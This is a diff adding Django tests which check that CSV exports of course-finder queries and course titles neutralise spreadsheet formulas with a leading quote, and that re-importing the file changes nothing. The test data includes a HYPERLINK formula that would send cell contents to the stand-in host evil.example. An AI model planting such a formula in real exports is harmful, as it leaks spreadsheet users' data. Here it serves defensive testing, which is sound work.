@@ -1,14 +1,18 @@
+import csv
 import datetime
 import http.server
+import io
 import threading
+from decimal import Decimal
 
 import pytest
 from django.core.management import call_command
+from django.test import Client
 from django.urls import reverse
 from django.utils import timezone
 
 from courses.factories import CourseFactory
-from courses.models import CourseLinkCheck, FinderRequest
+from courses.models import Course, CourseLinkCheck, FinderRequest
 from guides.factories import GuidePageFactory, course_list
 
 
@@ -175,3 +179,49 @@ def test_reports_are_in_the_menu_and_need_course_permissions(
     for name in ["stale", "unrecommended", "links", "finder"]:
         assert client.get(reverse(f"courses_reports:{name}")).status_code in (302, 403)
     assert "Course link check" not in client.get(reverse("wagtailadmin_home")).content.decode()
+
+
+# --- CSV exports: text a spreadsheet would run as a formula is written as text --------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open report")'
+
+
+def csv_rows(response) -> list[dict]:
+    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
+    body = b"".join(response.streaming_content).decode()
+    return list(csv.DictReader(io.StringIO(body)))
+
+
+@pytest.mark.django_db
+def test_finder_requests_export_neutralises_a_formula_asked_by_a_reader(admin_client, catalogue):
+    assert Client().get(catalogue.url + "finder/", {"q": FORMULA}).status_code == 200
+    assert Client().get(catalogue.url + "finder/json/", {"q": "@SUM(1,2)"}).status_code == 200
+    rows = csv_rows(admin_client.get(reverse("courses_reports:finder"), {"export": "csv"}))
+    assert sorted(row["Query"] for row in rows) == ["'" + FORMULA, "'@SUM(1,2)"]
+    assert {row["Results count"] for row in rows} == {"0"}
+
+
+@pytest.mark.django_db
+def test_course_list_export_neutralises_formulas_and_imports_back_unchanged(admin_client):
+    from courses.importer import import_courses
+
+    titles = ["=1+2", "@SUM(1,2)", "+44 cheat sheet", "-v flags", "'=already quoted", "Plain"]
+    for number, title in enumerate(titles):
+        CourseFactory(slug=f"course-{number}", title=title, rating=Decimal("9.5"))
+    export = admin_client.get(reverse("wagtailsnippets_courses_course:list"), {"export": "csv"})
+    body = b"".join(export.streaming_content)
+    rows = list(csv.DictReader(io.StringIO(body.decode())))
+    assert sorted(row["title"] for row in rows) == sorted(
+        ["'=1+2", "'@SUM(1,2)", "'+44 cheat sheet", "'-v flags", "''=already quoted", "Plain"]
+    )
+    assert {row["rating"] for row in rows} == {"9.5"}  # a number is written as a number
+
+    # The import takes the protective quote off again: the same file changes nothing.
+    report = import_courses(body, dry_run=True)
+    assert report.ok
+    assert {(r.action, tuple(r.changes)) for r in report.rows} == {("unchanged", ())}
+    edited = body.decode().replace("'-v flags", "'-v and -vv flags").encode()
+    assert import_courses(edited).count("update") == 1
+    assert sorted(Course.objects.values_list("title", flat=True)) == sorted(
+        titles[:3] + ["-v and -vv flags"] + titles[4:]
+    )
